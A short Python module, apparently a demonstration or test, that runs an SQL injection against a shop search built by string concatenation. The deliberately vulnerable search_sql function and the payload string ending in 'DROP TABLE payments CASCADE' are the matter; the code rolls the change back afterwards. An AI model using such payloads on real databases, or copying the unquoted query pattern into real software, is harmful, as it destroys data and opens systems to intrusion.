"""An SQL injection into a query that the shop's application builds by concatenating text."""

from __future__ import annotations

from dataclasses import dataclass

import psycopg

TERM = "kettle'; DROP TABLE payments CASCADE; --"


@dataclass(frozen=True)
class Outcome:
    """The result of the attack."""

    sql: str
    """The statement that reached the server."""
    dropped: bool
    answer: str
    """The server's answer."""


def search_sql(term: str) -> str:
    """The shop's search, with the customer's words put into it unquoted. This is the mistake."""
    return f"SELECT sku, name, price FROM available WHERE name LIKE '%{term}%'"  # noqa: S608


def attack(conninfo: str) -> Outcome:
    """Run the search with the attacker's words, look whether the table is gone, and roll everything back."""
    sql = search_sql(TERM)
    with psycopg.connect(conninfo, application_name="shop application") as conn:
        try:
            conn.execute("SET LOCAL lock_timeout = '200ms'")  # nobody is to wait for this
            conn.execute(sql.encode())
            gone = conn.execute("SELECT to_regclass('payments') IS NULL").fetchone() == (True,)
            return Outcome(sql, gone, "DROP TABLE" if gone else "the table is still there")
        except psycopg.errors.InsufficientPrivilege as error:
            return Outcome(sql, dropped=False, answer=f"ERROR: {error.diag.message_primary}")
        finally:
            conn.rollback()
